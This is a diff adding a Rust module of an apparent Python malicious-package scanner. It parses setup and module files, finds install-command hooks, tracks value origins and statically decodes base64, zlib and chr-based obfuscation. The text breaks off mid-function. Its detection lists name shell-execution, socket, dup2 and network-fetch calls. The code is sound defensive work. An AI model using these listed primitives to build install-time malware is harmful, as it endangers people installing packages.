@@ -1,0 +1,2269 @@
+//! Python analysis: tree-sitter parse, import/alias resolution to canonical names,
+//! light data flow (where an argument comes from), stages, and static decoding of
+//! layered payloads that are analysed again with the same rules.
+
+use std::collections::{HashMap, HashSet};
+
+use malgraph_core::{Platform, Stage};
+use tree_sitter::{Node, Parser, Tree};
+
+use crate::decode;
+use crate::ext;
+use crate::model::{Facts, Raw, Scope, Sink, snippet};
+use crate::patterns;
+use crate::pylit;
+
+/// What kind of file the code is in (decides the stage of its top level).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Role {
+    Setup,
+    Init,
+    Pth,
+    Module,
+}
+
+/// How one piece of Python code is to be analysed.
+#[derive(Debug, Clone)]
+pub(crate) struct PyCtx<'a> {
+    pub path: &'a str,
+    pub role: Role,
+    /// Scope of the top level.
+    pub top: Scope,
+    /// Scope of function bodies not reachable from the top level.
+    pub func: Scope,
+    /// Decoding depth of this code.
+    pub layer: u32,
+    /// For decoded layers: everything is reported at the outer call site.
+    pub forced: Option<(Scope, u32)>,
+    /// Layers still allowed below this one.
+    pub depth_left: u32,
+    pub max_parse: usize,
+}
+
+// Origins of a value (bit flags).
+const LIT: u32 = 1;
+const DECODED: u32 = 2;
+const DOWNLOADED: u32 = 4;
+const FILEREAD: u32 = 8;
+const STEGO: u32 = 16;
+const HOST: u32 = 32;
+const ENV: u32 = 64;
+const OBF: u32 = 128;
+const SOCKDATA: u32 = 256;
+const UNKNOWN: u32 = 1024;
+
+const INSTALL_CMDS: &[&str] = &[
+    "install",
+    "develop",
+    "egg_info",
+    "build_py",
+    "build_ext",
+    "build",
+    "sdist",
+    "bdist_wheel",
+    "bdist_egg",
+    "install_lib",
+    "install_scripts",
+    "easy_install",
+    "_install",
+    "_develop",
+];
+
+fn is_install_base(base: &str) -> bool {
+    let last = base.rsplit('.').next().unwrap_or(base);
+    INSTALL_CMDS.contains(&last)
+        || last.ends_with("_install")
+        || last.ends_with("install_orig")
+        || base.contains("command.install")
+        || base.contains("command.develop")
+        || base.contains("command.egg_info")
+}
+
+const WILDCARD: &[(&str, &[&str])] = &[
+    (
+        "os",
+        &[
+            "system",
+            "popen",
+            "remove",
+            "unlink",
+            "startfile",
+            "getenv",
+            "environ",
+            "getlogin",
+            "uname",
+            "dup2",
+        ],
+    ),
+    (
+        "subprocess",
+        &[
+            "Popen",
+            "call",
+            "run",
+            "check_output",
+            "check_call",
+            "getoutput",
+        ],
+    ),
+    (
+        "base64",
+        &["b64decode", "b32decode", "b16decode", "decodebytes"],
+    ),
+    ("socket", &["socket", "gethostname", "gethostbyname"]),
+    ("urllib.request", &["urlopen", "urlretrieve", "Request"]),
+    ("requests", &["get", "post"]),
+    ("zlib", &["decompress"]),
+    ("marshal", &["loads"]),
+    ("ctypes", &["windll", "CDLL"]),
+];
+
+/// Analyse Python source `src`, appending to `sink`. Never panics on any input.
+pub(crate) fn analyze(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
+    if ctx.layer == 0 {
+        sink.code_bytes += src.len() as u64;
+        sink.code_lines += memchr_count(src) as u64;
+    }
+    text_checks(src, ctx, sink);
+    if src.len() > ctx.max_parse {
+        push(
+            sink,
+            ctx,
+            "PKG-HUGE-FILE",
+            0,
+            "",
+            format!("{} bytes: not parsed", src.len()),
+            None,
+        );
+        return;
+    }
+    let mut parser = Parser::new();
+    if parser
+        .set_language(&tree_sitter_python::LANGUAGE.into())
+        .is_err()
+    {
+        return;
+    }
+    let Some(tree) = parser.parse(src, None) else {
+        return;
+    };
+    let py = Py::collect(src, &tree, ctx);
+    py.walk(&tree, ctx, sink, facts);
+}
+
+fn memchr_count(src: &[u8]) -> usize {
+    src.iter().filter(|&&c| c == b'\n').count() + usize::from(!src.is_empty())
+}
+
+fn push(
+    sink: &mut Sink,
+    ctx: &PyCtx<'_>,
+    rule: &'static str,
+    line: u32,
+    snip: &str,
+    message: String,
+    scope: Option<Scope>,
+) {
+    let (scope, line) = match ctx.forced {
+        Some((s, l)) => (Some(s), l),
+        None => (scope, line),
+    };
+    let message = if ctx.layer > 0 {
+        format!("decoded layer {}: {message}", ctx.layer)
+    } else {
+        message
+    };
+    sink.findings.push(Raw {
+        rule,
+        file: ctx.path.to_string(),
+        line,
+        snippet: snippet(snip),
+        layer: ctx.layer,
+        message,
+        stage: scope.map(|s| s.stage),
+        factor: scope.map_or(1.0, |s| s.factor),
+    });
+}
+
+/// Checks on the raw text: code hidden after long runs of whitespace, pyarmor.
+fn text_checks(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink) {
+    let scope = Some(ctx.top);
+    if memfind(src, b"__pyarmor__") || memfind(src, b"pyarmor_runtime") {
+        push(
+            sink,
+            ctx,
+            "PY-OBF-PYARMOR",
+            0,
+            "pyarmor",
+            "code protected with PyArmor".into(),
+            scope,
+        );
+    }
+    let mut reported = false;
+    for (i, line) in src.split(|&c| c == b'\n').enumerate() {
+        if reported {
+            break;
+        }
+        let mut run = 0usize;
+        for (j, &c) in line.iter().enumerate() {
+            if c == b' ' || c == b'\t' {
+                run += 1;
+                continue;
+            }
+            if run >= 150 && j > run {
+                let rest = String::from_utf8_lossy(&line[j..]);
+                let r = rest.trim_start();
+                if r.starts_with(';')
+                    || r.contains("exec")
+                    || r.contains("import")
+                    || r.contains("eval")
+                    || r.starts_with(',')
+                {
+                    push(
+                        sink,
+                        ctx,
+                        "PY-OBF-HIDDEN-CODE",
+                        i as u32 + 1,
+                        &rest,
+                        format!("code hidden after {run} blanks on one line"),
+                        scope,
+                    );
+                    reported = true;
+                    break;
+                }
+            }
+            run = 0;
+        }
+    }
+}
+
+fn memfind(h: &[u8], n: &[u8]) -> bool {
+    h.windows(n.len()).any(|w| w == n)
+}
+
+struct Py<'t> {
+    src: &'t [u8],
+    aliases: HashMap<String, String>,
+    assigns: HashMap<String, Vec<Node<'t>>>,
+    reach_top: HashSet<String>,
+    reach_install: HashSet<String>,
+    install_classes: HashSet<String>,
+    class_bases: HashMap<String, Vec<String>>,
+}
+
+fn text<'a>(n: Node<'_>, src: &'a [u8]) -> &'a str {
+    n.utf8_text(src).unwrap_or("")
+}
+
+fn line_of(n: Node<'_>) -> u32 {
+    n.start_position().row as u32 + 1
+}
+
+fn enclosing_class<'t>(f: Node<'t>, src: &[u8]) -> Option<String> {
+    let mut p = f.parent();
+    while let Some(n) = p {
+        match n.kind() {
+            "block" | "decorated_definition" => p = n.parent(),
+            "class_definition" => {
+                return n
+                    .child_by_field_name("name")
+                    .map(|x| text(x, src).to_string());
+            }
+            _ => return None,
+        }
+    }
+    None
+}
+
+impl<'t> Py<'t> {
+    /// First pass: imports, aliases, assignments, call graph, install command classes.
+    fn collect(src: &'t [u8], tree: &'t Tree, _ctx: &PyCtx<'_>) -> Py<'t> {
+        let mut py = Py {
+            src,
+            aliases: HashMap::new(),
+            assigns: HashMap::new(),
+            reach_top: HashSet::new(),
+            reach_install: HashSet::new(),
+            install_classes: HashSet::new(),
+            class_bases: HashMap::new(),
+        };
+        let mut top_calls: Vec<String> = Vec::new();
+        let mut fn_calls: HashMap<String, Vec<String>> = HashMap::new();
+        let mut fn_class: Vec<(String, String)> = Vec::new();
+        let mut alias_candidates: Vec<(String, Node<'t>)> = Vec::new();
+        // (node, enclosing function name)
+        let mut stack: Vec<(Node<'t>, Option<String>)> = vec![(tree.root_node(), None)];
+        while let Some((n, func)) = stack.pop() {
+            let mut child_func = func.clone();
+            match n.kind() {
+                "import_statement" => {
+                    let mut c = n.walk();
+                    for ch in n.named_children(&mut c) {
+                        py.add_import(ch, None);
+                    }
+                }
+                "import_from_statement" => {
+                    let module = n
+                        .child_by_field_name("module_name")
+                        .map(|m| text(m, src).trim_start_matches('.').to_string())
+                        .unwrap_or_default();
+                    let mut c = n.walk();
+                    for ch in n.children_by_field_name("name", &mut c) {
+                        py.add_import(ch, Some(&module));
+                    }
+                    let mut c = n.walk();
+                    let wildcard = n
+                        .named_children(&mut c)
+                        .any(|x| x.kind() == "wildcard_import");
+                    if wildcard {
+                        for (m, names) in WILDCARD {
+                            if *m == module {
+                                for name in *names {
+                                    py.aliases.insert(name.to_string(), format!("{m}.{name}"));
+                                }
+                            }
+                        }
+                    }
+                }
+                "assignment" | "augmented_assignment" => {
+                    if let (Some(l), Some(r)) = (
+                        n.child_by_field_name("left"),
+                        n.child_by_field_name("right"),
+                    ) && matches!(l.kind(), "identifier" | "attribute")
+                    {
+                        let key = text(l, src).to_string();
+                        if matches!(r.kind(), "identifier" | "attribute" | "call") {
+                            alias_candidates.push((key.clone(), r));
+                        }
+                        let v = py.assigns.entry(key).or_default();
+                        if v.len() < 16 {
+                            v.push(r);
+                        }
+                    }
+                }
+                "as_pattern" => {
+                    // with X as y / except E as e
+                    if let Some(alias) = n.child_by_field_name("alias") {
+                        let mut c = n.walk();
+                        if let Some(value) = n.named_children(&mut c).next() {
+                            let key = text(alias, src).to_string();
+                            py.assigns.entry(key).or_default().push(value);
+                        }
+                    }
+                }
+                "function_definition" => {
+                    if let Some(name) = n.child_by_field_name("name") {
+                        let name = text(name, src).to_string();
+                        if let Some(cls) = enclosing_class(n, src) {
+                            fn_class.push((name.clone(), cls));
+                        }
+                        child_func = Some(name);
+                    }
+                }
+                "class_definition" => {
+                    if let Some(name) = n.child_by_field_name("name") {
+                        let name = text(name, src).to_string();
+                        let mut bases = Vec::new();
+                        if let Some(sc) = n.child_by_field_name("superclasses") {
+                            let mut c = sc.walk();
+                            for b in sc.named_children(&mut c) {
+                                bases.push(text(b, src).to_string());
+                            }
+                        }
+                        py.class_bases.insert(name, bases);
+                    }
+                }
+                "call" => {
+                    let mut names = Vec::new();
+                    if let Some(f) = n.child_by_field_name("function") {
+                        match f.kind() {
+                            "identifier" => names.push(text(f, src).to_string()),
+                            "attribute" => {
+                                if let Some(a) = f.child_by_field_name("attribute") {
+                                    names.push(text(a, src).to_string());
+                                }
+                            }
+                            _ => {}
+                        }
+                    }
+                    if let Some(args) = n.child_by_field_name("arguments") {
+                        let mut c = args.walk();
+                        for a in args.named_children(&mut c) {
+                            let a = if a.kind() == "keyword_argument" {
+                                match a.child_by_field_name("value") {
+                                    Some(v) => v,
+                                    None => continue,
+                                }
+                            } else {
+                                a
+                            };
+                            match a.kind() {
+                                "identifier" => names.push(text(a, src).to_string()),
+                                "attribute" => {
+                                    if let Some(x) = a.child_by_field_name("attribute") {
+                                        names.push(text(x, src).to_string());
+                                    }
+                                }
+                                _ => {}
+                            }
+                        }
+                    }
+                    match &func {
+                        Some(f) => fn_calls.entry(f.clone()).or_default().extend(names),
+                        None => top_calls.extend(names),
+                    }
+                }
+                "pair" => {
+                    if let (Some(k), Some(v)) =
+                        (n.child_by_field_name("key"), n.child_by_field_name("value"))
+                    {
+                        let key = text(k, src).trim_matches(['\'', '"']);
+                        if INSTALL_CMDS.contains(&key) && v.kind() == "identifier" {
+                            py.install_classes.insert(text(v, src).to_string());
+                        }
+                    }
+                }
+                "keyword_argument" => {
+                    if let (Some(k), Some(v)) = (
+                        n.child_by_field_name("name"),
+                        n.child_by_field_name("value"),
+                    ) && INSTALL_CMDS.contains(&text(k, src))
+                        && v.kind() == "identifier"
+                    {
+                        py.install_classes.insert(text(v, src).to_string());
+                    }
+                }
+                _ => {}
+            }
+            let mut c = n.walk();
+            for ch in n.named_children(&mut c) {
+                stack.push((ch, child_func.clone()));
+            }
+        }
+        // Aliases from assignments (`s = os.system`, `o = __import__('os')`).
+        for (k, r) in alias_candidates {
+            let is_alias_call = r.kind() == "call"
+                && r.child_by_field_name("function")
+                    .map(|f| {
+                        matches!(
+                            text(f, src),
+                            "__import__" | "importlib.import_module" | "getattr" | "import_module"
+                        )
+                    })
+                    .unwrap_or(false);
+            if (r.kind() != "call" || is_alias_call)
+                && let Some((c, _)) = py.canon(r, 0)
+                && c != k
+                && !k.contains('.')
+            {
+                let root = c.split('.').next().unwrap_or("");
+                if is_alias_call || py.aliases.contains_key(root) || c.contains('.') {
+                    py.aliases.entry(k).or_insert(c);
+                }
+            }
+        }
+        // Install command classes by base.
+        for (cls, bases) in &py.class_bases {
+            if bases.iter().any(|b| {
+                is_install_base(b) || py.aliases.get(b).is_some_and(|a| is_install_base(a))
+            }) {
+                py.install_classes.insert(cls.clone());
+            }
+        }
+        // Reachability from the top level and from install commands.
+        let reach = |seeds: Vec<String>| {
+            let mut seen: HashSet<String> = HashSet::new();
+            let mut todo = seeds;
+            while let Some(f) = todo.pop() {
+                if seen.insert(f.clone())
+                    && let Some(cs) = fn_calls.get(&f)
+                {
+                    todo.extend(cs.iter().cloned());
+                }
+            }
+            seen
+        };
+        // A class instantiated at the top level makes its methods reachable.
+        let mut seeds_top = top_calls.clone();
+        for (m, cls) in &fn_class {
+            if top_calls.contains(cls) {
+                seeds_top.push(m.clone());
+            }
+        }
+        py.reach_top = reach(seeds_top);
+        let seeds_install: Vec<String> = fn_class
+            .iter()
+            .filter(|(_, c)| py.install_classes.contains(c))
+            .map(|(m, _)| m.clone())
+            .collect();
+        py.reach_install = reach(seeds_install);
+        py
+    }
+
+    fn add_import(&mut self, n: Node<'t>, from: Option<&str>) {
+        let src = self.src;
+        let (name, alias) = match n.kind() {
+            "aliased_import" => (
+                n.child_by_field_name("name").map(|x| text(x, src)),
+                n.child_by_field_name("alias").map(|x| text(x, src)),
+            ),
+            "dotted_name" => (Some(text(n, src)), None),
+            _ => (None, None),
+        };
+        let Some(name) = name else { return };
+        match from {
+            None => {
+                let root = name.split('.').next().unwrap_or(name);
+                match alias {
+                    Some(a) => self.aliases.insert(a.to_string(), name.to_string()),
+                    None => self.aliases.insert(root.to_string(), root.to_string()),
+                };
+            }
+            Some(m) => {
+                let full = if m.is_empty() {
+                    name.to_string()
+                } else {
+                    format!("{m}.{name}")
+                };
+                let local = alias.unwrap_or(name);
+                self.aliases.insert(local.to_string(), full);
+            }
+        }
+    }
+
+    /// Canonical dotted name of a callee expression, and whether it was reached
+    /// through the builtins module (`__import__('builtins').exec`, `getattr(__builtins__, ...)`).
+    fn canon(&self, n: Node<'t>, depth: u32) -> Option<(String, bool)> {
+        if depth > 12 {
+            return None;
+        }
+        let src = self.src;
+        match n.kind() {
+            "identifier" => {
+                let t = text(n, src);
+                if let Some(a) = self.aliases.get(t) {
+                    return Some(norm_builtins(a.clone()));
+                }
+                if let Some(rhs) = self.assigns.get(t).and_then(|v| v.last())
+                    && rhs.kind() == "call"
+                    && let Some(f) = rhs.child_by_field_name("function")
+                    && let Some((c, e)) = self.canon(f, depth + 1)
+                {
+                    return Some((format!("{c}()"), e));
+                }
+                Some(norm_builtins(t.to_string()))
+            }
+            "attribute" => {
+                let obj = n.child_by_field_name("object")?;
+                let attr = text(n.child_by_field_name("attribute")?, src);
+                let (base, esc) = self
+                    .canon(obj, depth + 1)
+                    .unwrap_or_else(|| ("?".into(), false));
+                let (c, e2) = norm_builtins(format!("{base}.{attr}"));
+                Some((c, esc || e2))
+            }
+            "parenthesized_expression" => {
+                let mut c = n.walk();
+                let inner = n.named_children(&mut c).next()?;
+                self.canon(inner, depth + 1)
+            }
+            "subscript" => {
+                // X.__dict__['name'] / globals()['name']
+                let value = n.child_by_field_name("value")?;
+                let sub = n.child_by_field_name("subscript")?;
+                let key = self.static_str(sub)?;
+                let (base, esc) = self.canon(value, depth + 1)?;
+                let base = base
+                    .trim_end_matches(".__dict__")
+                    .trim_end_matches("globals()")
+                    .trim_end_matches("vars()")
+                    .trim_end_matches("locals()")
+                    .trim_end_matches('.')
+                    .to_string();
+                let joined = if base.is_empty() {
+                    key
+                } else {
+                    format!("{base}.{key}")
+                };
+                let (c, e2) = norm_builtins(joined);
+                Some((c, esc || e2))
+            }
+            "call" => {
+                let f = n.child_by_field_name("function")?;
+                let args = n.child_by_field_name("arguments");
+                let ft = text(f, src);
+                let first = args.and_then(|a| a.named_child(0));
+                let second = args.and_then(|a| a.named_child(1));
+                match ft {
+                    "__import__" | "importlib.import_module" | "import_module" => {
+                        let m = self.static_str(first?)?;
+                        Some(norm_builtins(m))
+                    }
+                    "getattr" => {
+                        let (base, esc) = self.canon(first?, depth + 1)?;
+                        let attr = self.static_str(second?)?;
+                        let (c, e2) = norm_builtins(format!("{base}.{attr}"));
+                        Some((c, esc || e2))
+                    }
+                    _ => {
+                        let (c, e) = self.canon(f, depth + 1)?;
+                        Some((format!("{c}()"), e))
+                    }
+                }
+            }
+            _ => None,
+        }
+    }
+
+    /// A string value known statically (literal, or decoded).
+    fn static_str(&self, n: Node<'t>) -> Option<String> {
+        let (b, _) = self.static_bytes(n, 0)?;
+        String::from_utf8(b).ok()
+    }
+
+    /// Statically evaluate an expression to bytes; the flag says whether a decoding or
+    /// string-building step was involved (base64, zlib, reversal, chr joins...).
+    fn static_bytes(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
+        if depth > 24 {
+            return None;
+        }
+        let src = self.src;
+        match n.kind() {
+            "string" => {
+                let l = pylit::decode(text(n, src))?;
+                if l.fstring {
+                    let mut c = n.walk();
+                    if n.named_children(&mut c)
+                        .any(|x| x.kind() == "interpolation")
+                    {
+                        return None;
+                    }
+                }
+                Some((l.bytes, false))
+            }
+            "concatenated_string" => {
+                let mut out = Vec::new();
+                let mut c = n.walk();
+                for s in n.named_children(&mut c) {
+                    out.extend(self.static_bytes(s, depth + 1)?.0);
+                }
+                Some((out, false))
+            }
+            "parenthesized_expression" => {
+                let mut c = n.walk();
+                let inner = n.named_children(&mut c).next()?;
+                self.static_bytes(inner, depth + 1)
+            }
+            "binary_operator" => {
+                if n.child_by_field_name("operator").map(|o| text(o, src)) != Some("+") {
+                    return None;
+                }
+                // Flatten the left spine iteratively (long chr()+chr()+... chains).
+                let mut parts = Vec::new();
+                let mut cur = n;
+                while cur.kind() == "binary_operator"
+                    && cur.child_by_field_name("operator").map(|o| text(o, src)) == Some("+")
+                {
+                    parts.push(cur.child_by_field_name("right")?);
+                    cur = cur.child_by_field_name("left")?;
+                    if parts.len() > 100_000 {
+                        return None;
+                    }
+                }
+                parts.push(cur);
+                let mut out = Vec::new();
+                let mut tr = false;
+                for p in parts.iter().rev() {
+                    let (b, t) = self.static_bytes(*p, depth + 1)?;
+                    tr |= t;
+                    out.extend(b);
+                    if out.len() > decode::MAX_OUT {
+                        return None;
+                    }
+                }
+                Some((out, tr))
+            }
+            "identifier" => {
+                let rhs = self.assigns.get(text(n, src))?;
+                if rhs.len() != 1 {
+                    return None;
+                }
+                self.static_bytes(rhs[0], depth + 1)
+            }
+            "subscript" => {
+                let sub = n.child_by_field_name("subscript")?;
+                if sub.kind() == "slice" && text(sub, src).replace(' ', "") == "::-1" {
+                    let (mut b, _) =
+                        self.static_bytes(n.child_by_field_name("value")?, depth + 1)?;
+                    b.reverse();
+                    return Some((b, true));
+                }
+                None
+            }
+            "call" => self.static_call(n, depth),
+            _ => None,
+        }
+    }
+
+    fn args(&self, call: Node<'t>) -> Vec<Node<'t>> {
+        let mut out = Vec::new();
+        if let Some(a) = call.child_by_field_name("arguments") {
+            let mut c = a.walk();
+            out.extend(a.named_children(&mut c).filter(|x| x.kind() != "comment"));
+        }
+        out
+    }
+
+    fn static_call(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
+        let src = self.src;
+        let f = n.child_by_field_name("function")?;
+        let args = self.args(n);
+        let positional: Vec<Node<'t>> = args
+            .iter()
+            .copied()
+            .filter(|a| a.kind() != "keyword_argument")
+            .collect();
+        let arg0 = || positional.first().copied();
+        let sub = |x: Option<Node<'t>>| x.and_then(|x| self.static_bytes(x, depth + 1));
+        // Method calls on a value: x.decode(), x.encode(), sep.join(...).
+        if f.kind() == "attribute" {
+            let attr = f.child_by_field_name("attribute").map(|a| text(a, src))?;
+            let obj = f.child_by_field_name("object")?;
+            let obj_canon = self.canon(obj, 0).map(|c| c.0).unwrap_or_default();
+            let is_module = self
+                .aliases
+                .contains_key(obj_canon.split('.').next().unwrap_or(""))
+                || matches!(obj_canon.as_str(), "bytes" | "str" | "bytearray");
+            if !is_module {
+                match attr {
+                    "decode" | "encode" => {
+                        let (b, t) = self.static_bytes(obj, depth + 1)?;
+                        let enc = arg0()
+                            .and_then(|a| self.static_str(a))
+                            .unwrap_or_default()
+                            .to_ascii_lowercase();
+                        return apply_codec(&enc, b, t);
+                    }
+                    "strip" | "lstrip" | "rstrip" | "lower" | "upper" => {
+                        if !positional.is_empty() {
+                            return None;
+                        }
+                        let (b, t) = self.static_bytes(obj, depth + 1)?;
+                        let s = String::from_utf8_lossy(&b).to_string();
+                        let s = match attr {
+                            "strip" => s.trim().to_string(),
+                            "lstrip" => s.trim_start().to_string(),
+                            "rstrip" => s.trim_end().to_string(),
+                            "lower" => s.to_lowercase(),
+                            _ => s.to_uppercase(),
+                        };
+                        return Some((s.into_bytes(), t));
+                    }
+                    "replace" => {
+                        let (b, t) = self.static_bytes(obj, depth + 1)?;
+                        let from = self
+                            .static_bytes(positional.first().copied()?, depth + 1)?
+                            .0;
+                        let to = self.static_bytes(positional.get(1).copied()?, depth + 1)?.0;
+                        if from.is_empty() {
+                            return None;
+                        }
+                        let s = String::from_utf8_lossy(&b).replace(
+                            String::from_utf8_lossy(&from).as_ref(),
+                            String::from_utf8_lossy(&to).as_ref(),
+                        );
+                        return Some((s.into_bytes(), true || t));
+                    }
+                    "join" => {
+                        let (sep, _) = self.static_bytes(obj, depth + 1)?;
+                        let items = self.static_seq(arg0()?, depth + 1)?;
+                        let mut out = Vec::new();
+                        for (i, it) in items.iter().enumerate() {
+                            if i > 0 {
+                                out.extend_from_slice(&sep);
+                            }
+                            out.extend_from_slice(it);
+                            if out.len() > decode::MAX_OUT {
+                                return None;
+                            }
+                        }
+                        return Some((out, true));
+                    }
+                    _ => {}
+                }
+            }
+        }
+        let (name, _) = self.canon(f, 0)?;
+        let name = name.as_str();
+        let last = name.rsplit('.').next().unwrap_or(name);
+        let b64_family = [
+            "b64decode",
+            "decodebytes",
+            "decodestring",
+            "standard_b64decode",
+            "urlsafe_b64decode",
+            "a2b_base64",
+        ];
+        let out = match name {
+            n if n.starts_with("base64.") && b64_family.contains(&last) => {
+                decode::b64(&sub(arg0())?.0)?
+            }
+            "binascii.a2b_base64" => decode::b64(&sub(arg0())?.0)?,
+            "base64.b32decode" => decode::b32(&sub(arg0())?.0)?,
+            "base64.b16decode" | "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex"
+            | "bytearray.fromhex" => decode::unhex(&sub(arg0())?.0)?,
+            "zlib.decompress" | "gzip.decompress" => decode::inflate(&sub(arg0())?.0)?,
+            "bz2.decompress" => decode::bunzip(&sub(arg0())?.0)?,
+            "lzma.decompress" => decode::unxz(&sub(arg0())?.0)?,
+            "codecs.decode" | "codecs.encode" => {
+                let (b, t) = sub(arg0())?;
+                let enc = positional
+                    .get(1)
+                    .and_then(|a| self.static_str(*a))
+                    .unwrap_or_default()
+                    .to_ascii_lowercase();
+                return apply_codec(&enc, b, t);
+            }
+            "chr" | "unichr" => {
+                let v = int_value(text(arg0()?, src))?;
+                let c = char::from_u32(u32::try_from(v).ok()?)?;
+                c.to_string().into_bytes()
+            }
+            "bytes" | "bytearray" | "str" => {
+                let a = arg0()?;
+                if matches!(a.kind(), "list" | "tuple") {
+                    let mut out = Vec::new();
+                    let mut c = a.walk();
+                    for x in a.named_children(&mut c) {
+                        out.push(u8::try_from(int_value(text(x, src))?).ok()?);
+                    }
+                    out
+                } else {
+                    return sub(Some(a));
+                }
+            }
+            _ => return None,
+        };
+        Some((out, true))
+    }
+
+    /// A sequence of byte strings: list/tuple literals, comprehensions of chr over ints,
+    /// `map(chr, [...])`, `reversed(x)`.
+    fn static_seq(&self, n: Node<'t>, depth: u32) -> Option<Vec<Vec<u8>>> {
+        let src = self.src;
+        match n.kind() {
+            "list" | "tuple" => {
+                let mut out = Vec::new();
+                let mut c = n.walk();
+                for x in n.named_children(&mut c) {
+                    out.push(self.static_bytes(x, depth + 1)?.0);
+                }
+                Some(out)
+            }
+            "identifier" => {
+                let rhs = self.assigns.get(text(n, src))?;
+                if rhs.len() != 1 {
+                    return None;
+                }
+                self.static_seq(rhs[0], depth + 1)
+            }
+            "list_comprehension" | "generator_expression" => {
+                // [chr(x) for x in [..]]
+                let body = n.child_by_field_name("body")?;
+                let mut c = n.walk();
+                let clause = n
+                    .named_children(&mut c)
+                    .find(|x| x.kind() == "for_in_clause")?;
+                let var = text(clause.child_by_field_name("left")?, src);
+                let iter = clause.child_by_field_name("right")?;
+                if body.kind() != "call" {
+                    return None;
+                }
+                let bf = text(body.child_by_field_name("function")?, src);
+                let barg = self.args(body).first().copied()?;
+                if bf != "chr" || text(barg, src) != var {
+                    return None;
+                }
+                let ints = self.int_list(iter)?;
+                Some(
+                    ints.into_iter()
+                        .filter_map(|v| char::from_u32(u32::try_from(v).ok()?))
+                        .map(|c| c.to_string().into_bytes())
+                        .collect(),
+                )
+            }
+            "call" => {
+                let f = text(n.child_by_field_name("function")?, src);
+                let args = self.args(n);
+                match f {
+                    "map" if args.first().map(|a| text(*a, src)) == Some("chr") => {
+                        let ints = self.int_list(*args.get(1)?)?;
+                        Some(
+                            ints.into_iter()
+                                .filter_map(|v| char::from_u32(u32::try_from(v).ok()?))
+                                .map(|c| c.to_string().into_bytes())
+                                .collect(),
+                        )
+                    }
+                    "reversed" => {
+                        let (b, _) = self.static_bytes(*args.first()?, depth + 1)?;
+                        let s = String::from_utf8(b).ok()?;
+                        Some(
+                            s.chars()
+                                .rev()
+                                .map(|c| c.to_string().into_bytes())
+                                .collect(),
+                        )
+                    }
+                    "list" | "tuple" => self.static_seq(*args.first()?, depth + 1),
+                    _ => None,
+                }
+            }
+            _ => {
+                // A string iterates over its characters.
+                let (b, _) = self.static_bytes(n, depth + 1)?;
+                let s = String::from_utf8(b).ok()?;
+                Some(s.chars().map(|c| c.to_string().into_bytes()).collect())
+            }
+        }
+    }
+
+    fn int_list(&self, n: Node<'t>) -> Option<Vec<i64>> {
+        let n = if n.kind() == "identifier" {
+            let rhs = self.assigns.get(text(n, self.src))?;
+            if rhs.len() != 1 {
+                return None;
+            }
+            rhs[0]
+        } else {
+            n
+        };
+        if !matches!(n.kind(), "list" | "tuple") {
+            return None;
+        }
+        let mut out = Vec::new();
+        let mut c = n.walk();
+        for x in n.named_children(&mut c) {
+            out.push(int_value(text(x, self.src))?);
+        }
+        Some(out)
+    }
+
+    /// Where a value comes from (bit flags), following assignments in the file.
+    fn origin(&self, n: Node<'t>, depth: u32) -> u32 {
+        if depth > 10 {
+            return UNKNOWN;
+        }
+        let src = self.src;
+        match n.kind() {
+            "string" => {
+                let mut o = LIT;
+                let mut c = n.walk();
+                for ch in n.named_children(&mut c) {
+                    if ch.kind() == "interpolation" {
+                        o |= self.origin(ch, depth + 1);
+                    }
+                }
+                o
+            }
+            "concatenated_string" | "integer" | "float" | "true" | "false" | "none" => LIT,
+            "identifier" => {
+                let t = text(n, src);
+                if t == "__file__" {
+                    return LIT;
+                }
+                match self.assigns.get(t) {
+                    Some(v) => v
+                        .iter()
+                        .take(8)
+                        .fold(0, |o, r| o | self.origin(*r, depth + 1)),
+                    None => UNKNOWN,
+                }
+            }
+            "attribute" => {
+                let c = self.canon(n, 0).map(|c| c.0).unwrap_or_default();
+                if c == "os.environ" {
+                    return ENV;
+                }
+                match n.child_by_field_name("object") {
+                    Some(o) => {
+                        let key = text(n, src);
+                        let mut r = self.origin(o, depth + 1);
+                        if let Some(v) = self.assigns.get(key) {
+                            r |= v
+                                .iter()
+                                .take(8)
+                                .fold(0, |o, x| o | self.origin(*x, depth + 1));
+                        }
+                        r
+                    }
+                    None => UNKNOWN,
+                }
+            }
+            "call" => self.call_origin(n, depth),
+            "subscript" => {
+                let v = n.child_by_field_name("value");
+                let sub = n.child_by_field_name("subscript");
+                if let Some(v) = v {
+                    let c = self.canon(v, 0).map(|c| c.0).unwrap_or_default();
+                    if c == "os.environ" {
+                        return LIT; // a single variable: configuration, not collection
+                    }
+                    if sub.is_some_and(|s| text(s, src).replace(' ', "") == "::-1") {
+                        return self.origin(v, depth + 1) | OBF;
+                    }
+                    return self.origin(v, depth + 1);
+                }
+                UNKNOWN
+            }
+            "lambda" | "function_definition" => UNKNOWN,
+            _ => {
+                let mut o = 0;
+                let mut c = n.walk();
+                for (i, ch) in n.named_children(&mut c).enumerate() {
+                    if i > 64 {
+                        break;
+                    }
+                    o |= self.origin(ch, depth + 1);
+                }
+                if o == 0 { UNKNOWN } else { o }
+            }
+        }
+    }
+
+    fn call_origin(&self, n: Node<'t>, depth: u32) -> u32 {
+        let src = self.src;
+        let Some(f) = n.child_by_field_name("function") else {
+            return UNKNOWN;
+        };
+        let name = self.canon(f, 0).map(|c| c.0).unwrap_or_default();
+        if is_decoder(&name) {
+            return DECODED;
+        }
+        if name == "marshal.loads" {
+            return DECODED;
+        }
+        if is_fetch(&name) {
+            return DOWNLOADED;
+        }
+        if is_hostinfo(&name) || name == "os.getcwd" {
+            return HOST;
+        }
+        if name == "open" || name == "io.open" || name == "codecs.open" {
+            return FILEREAD;
+        }
+        if is_stego(&name) {
+            return STEGO;
+        }
+        if matches!(name.as_str(), "chr" | "unichr") {
+            return OBF;
+        }
+        if matches!(name.as_str(), "os.getenv" | "os.environ.get") {
+            return LIT;
+        }
+        if matches!(
+            name.as_str(),
+            "dict" | "str" | "list" | "repr" | "json.dumps"
+        ) && self
+            .args(n)
+            .iter()
+            .any(|a| self.origin(*a, depth + 1) & ENV != 0)
+        {
+            return ENV;
+        }
+        let mut o = 0;
+        if f.kind() == "attribute" {
+            let attr = f
+                .child_by_field_name("attribute")
+                .map(|a| text(a, src))
+                .unwrap_or("");
